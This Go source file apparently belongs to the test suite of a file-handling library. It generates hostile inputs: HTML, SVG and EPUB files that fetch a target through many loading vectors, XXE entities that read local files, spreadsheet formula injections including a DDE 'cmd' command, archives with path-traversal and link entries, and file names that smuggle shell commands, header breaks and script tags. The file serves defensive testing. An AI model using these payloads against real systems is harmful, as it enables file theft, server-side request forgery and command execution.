package hostile

import (
	"fmt"
	"strings"

	"github.com/filewright/filewright/fileops"
)

// hostileWeb returns pages and drawings that fetch t.
func hostileWeb(t target) []*fileops.File {
	var out []*fileops.File
	add := func(name, content string) { out = append(out, fileops.Bytes(name, []byte(content))) }
	socket := "ws" + strings.TrimPrefix(t.base, "http") + "/socket"
	add("loads.html", `<!doctype html><html><head><base href="`+t.base+`/">`+t.repeat(`<link rel="preload" as="image" href="@"><link rel="prefetch" href="@"><link rel="preconnect" href="@"><link rel="dns-prefetch" href="@"><link rel="modulepreload" href="@"><link rel="import" href="@"><link rel="icon" href="@"><link rel="manifest" href="@">
<style>@import "@"; a{cursor:url("@"),auto} li{list-style-image:url("@")} p{border-image:url("@") 1;mask-image:url("@");content:url("@");background-image:image-set("@" 1x)} q::before{content:url("@")} @namespace x url("@");</style><script src="@"></script><script type="module" src="@"></script>`)+
		`</head><body background="`+t.base+`/b" onload="fetch('`+t.base+`/f')">`+t.repeat(`<picture><source srcset="@ 1x"><img srcset="@ 2x" src="@"></picture><input type="image" src="@"><audio src="@" autoplay></audio><video autoplay><source src="@"><track src="@" default></video><table background="@"><tr><td background="@">x</td></tr></table><applet code="@" archive="@"></applet><frameset><frame src="@"></frameset><bgsound src="@"><ul><li>x</li></ul><q>x</q>
<svg><image href="@"/><use href="@#a"/><filter id="f"><feImage href="@"/></filter><rect width="9" height="9" filter="url(#f)"/></svg><math><mglyph src="@"/></math><iframe srcdoc="&lt;img src='@'&gt;"></iframe><iframe src="data:text/html,<img src='@'>"></iframe><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='@'/></svg>"><object type="text/html" data="@"></object><portal src="@"></portal><a ping="@" href="@" id="a">x</a><form action="@"><button autofocus onfocus="this.form.submit()">x</button></form>`)+
		`<script>new WebSocket("`+socket+`");new EventSource("`+t.base+`/e");navigator.sendBeacon("`+t.base+`/b");var x=new XMLHttpRequest();x.open("GET","`+t.file+`");x.send();document.getElementById("a").click();new Worker("`+t.base+`/w");import("`+t.base+`/m");new RTCPeerConnection({iceServers:[{urls:"stun:`+strings.TrimPrefix(t.base, "http://")+`"}]}).createOffer();location="`+t.file+`"</script></body></html>`)
	for i, s := range t.each() {
		add(fmt.Sprintf("refresh-%d.html", i), `<meta http-equiv="refresh" content="0;url=`+s+`"><p>x</p>`)
		add(fmt.Sprintf("frames-%d.html", i), `<html><frameset cols="*"><frame src="`+s+`"></frameset></html>`)
		add(fmt.Sprintf("entity-%d.html", i), `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY e SYSTEM "`+s+`">]><html xmlns="http://www.w3.org/1999/xhtml"><body><p>&e;</p></body></html>`)
		add(fmt.Sprintf("sheet-%d.svg", i), `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="`+s+`"?><?xml-stylesheet type="text/xsl" href="`+s+`"?><svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><rect width="9" height="9"/></svg>`)
		add(fmt.Sprintf("dtd-%d.svg", i), `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "`+s+`" [<!ENTITY % p SYSTEM "`+s+`">%p;]><svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><rect width="9" height="9"/></svg>`)
	}
	add("loads.svg", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="fetch('`+t.base+`/f')">`+
		t.repeat(`<defs><filter id="f" xlink:href="@#f"><feImage xlink:href="@" href="@"/></filter><pattern id="p" xlink:href="@#p" width="9" height="9"><image xlink:href="@" width="9" height="9"/></pattern><linearGradient id="g" xlink:href="@#g"/><font-face font-family="f"><font-face-src><font-face-uri xlink:href="@"/></font-face-src></font-face><cursor id="c" xlink:href="@"/><color-profile name="n" xlink:href="@"/></defs>
<style>@font-face{font-family:f;src:url("@")} text{font-family:f}</style><script xlink:href="@"/><rect width="9" height="9" filter="url(#f)" fill="url(@#p)" mask="url(@#m)" clip-path="url(@#c)" style="cursor:url(@)"/><rect width="9" height="9" fill="url(#p)"/><text y="9"><tref xlink:href="@#t"/><textPath xlink:href="@#t">x</textPath></text><path d="M0 0"><animateMotion><mpath xlink:href="@#m"/></animateMotion></path>
<image width="9" height="9"><set attributeName="xlink:href" to="@"/></image><foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml"><img src="@"/><iframe src="@"></iframe></body></foreignObject><image width="9" height="9" href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='@'/%3E%3C/svg%3E"/>`)+`</svg>`)
	add("style.epub", Zip(
		"mimetype", "application/epub+zip",
		"META-INF/container.xml", `<?xml version="1.0"?><!DOCTYPE c [<!ENTITY e SYSTEM "`+t.file+`">]><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="content.opf" media-type="application/oebps-package+xml"/></rootfiles></container>`,
		"content.opf", `<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">x</dc:identifier><dc:title>x</dc:title></metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/><item id="b" href="../../../../../..`+t.path+`" media-type="application/xhtml+xml"/><item id="c" href="`+t.base+`/c" media-type="application/xhtml+xml"/><item id="s" href="a.css" media-type="text/css"/></manifest><spine><itemref idref="a"/><itemref idref="b"/><itemref idref="c"/></spine></package>`,
		"a.css", t.repeat(`@import url("@");p{background:url("@")}`),
		"a.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><head><link rel="stylesheet" href="a.css"/>`+t.repeat(`<link rel="stylesheet" href="@"/>`)+`</head><body>`+t.repeat(`<p>x</p><object data="@"/><iframe src="@"></iframe><img src="@" alt="x"/>`)+`</body></html>`,
	))
	return out
}

// hostileText returns texts and tables whose markup or formulas access t.
func hostileText(t target) []*fileops.File {
	var out []*fileops.File
	add := func(name, content string) { out = append(out, fileops.Bytes(name, []byte(content))) }
	add("head.md", "---\ntitle: x\nbibliography: "+t.path+"\ncsl: "+t.base+"/csl\ncss: "+t.base+"/css\ntemplate: "+t.path+"\ninclude-before: "+t.path+"\nheader-includes:\n- <link rel=stylesheet href=\""+t.base+"/css\">\nreference-doc: "+t.path+"\nlang: en\n---\n\n"+
		t.repeat("![x](@){width=5cm}\n\n<img src='@'>\n\n<object data='@'></object>\n\n```{=html}\n<iframe src='@'></iframe>\n```\n\n$$\\input{@}$$\n\n\\includegraphics{@}\n\n\\input{@}\n\n[x](@)\n\n::: {.include src=@}\n:::\n\n@cite\n\n"))
	formulas := []string{`=WEBSERVICE("@")`, `=FILTERXML(WEBSERVICE("@");"//x")`, `=DDE("soffice";"@";"A1")`, `=HYPERLINK("@")`, `='@'#$Sheet1.A1`, `=cmd|'/c cat @'!A1`, `=IMPORTXML("@";"//x")`, `=IMAGE("@")`, `+@`, `@SUM(1)`}
	for _, sep := range []string{",", "\t"} {
		var b strings.Builder
		for _, s := range t.each() {
			for _, f := range formulas {
				b.WriteString(`"` + strings.ReplaceAll(strings.Replace(f, "@", s, 1), `"`, `""`) + `"` + sep + "x\n")
			}
		}
		add("formulas."+map[string]string{",": "csv", "\t": "tsv"}[sep], b.String())
	}
	add("formulas.json", `[{"a":"=WEBSERVICE(\"`+t.base+`\")","$ref":"`+t.file+`","__proto__":{"b":"='`+t.file+`'#$Sheet1.A1"}}]`)
	add("include.txt", t.repeat("@\n#include \"@\"\n<img src=\"@\">\n{{ include '@' }}\n"))
	return out
}

// hostileArchives returns archives whose entries have paths outside, or are
// links to t.
func hostileArchives(t target) []*fileops.File {
	up := "../../../../../../../../../.." + t.path
	var files []string
	for _, name := range append(Names(), t.path, up) {
		files = append(files, name, "text\n")
	}
	out := []*fileops.File{
		fileops.Bytes("names.zip", []byte(Zip(files...))),
		fileops.Bytes("links.zip", []byte(zipLinks(t.path, up, "/", ".."))),
		fileops.Bytes("names.tar", []byte(hostileTar(t, false))),
		fileops.Bytes("links.tar", []byte(hostileTar(t, true))),
		fileops.Bytes("names.tar.gz", []byte(gzipped(hostileTar(t, false)))),
		fileops.Bytes("links.tar.gz", []byte(gzipped(hostileTar(t, true)))),
	}
	return out
}

// Names returns file names that lead out of a directory, break lines or headers,
// or imitate other names. Others are options, patterns or devices, or are too
// long. Programs must reject them or make them harmless.
func Names() []string {
	return []string{
		"../../../../etc/cron.d/x.txt", "/etc/cron.d/x.txt", `..\..\..\windows\x.txt`, `C:\windows\x.txt`, "./../x.txt", "a/../../x.txt", "..", ".", "%2e%2e%2fx.txt",
		"a\r\nSet-Cookie: x=1\r\n\r\n<script>.txt", "a\nb.txt", "a\x00b.txt", "a\x1b[31m.txt", "a\x7f.txt", "a\tb.txt",
		"invoice\u202efdp.txt", "\u2066a\u2069.txt", "a\u200b.txt", "\ufeffa.txt", "a\u2028b.txt", "\xff\xfe.txt", "cafe\u0301.txt", "ﬁle.txt",
		"-rf.txt", "--help.txt", "@file.txt", "%03d.txt", "*.txt", "?[a-z]{1,2}.txt", "$(id).txt", "`id`.txt", "a;id|id&.txt", `a"b'c.txt`, "file:a.txt", "http://x/a.txt", "pipe:0.txt", "data:,a.txt",
		"CON.txt", "nul.txt", "a.txt ", "a.txt.", " .txt", ".txt", ".htaccess.txt", "<img src=x onerror=alert(1)>.txt", "a=b;c=\"d\".txt", "~.txt", "~root.txt",
		strings.Repeat("a", 300) + ".txt", strings.Repeat("ä", 200) + ".txt", strings.Repeat("a/", 300) + "x.txt", "x." + strings.Repeat("b", 300),
	}
}
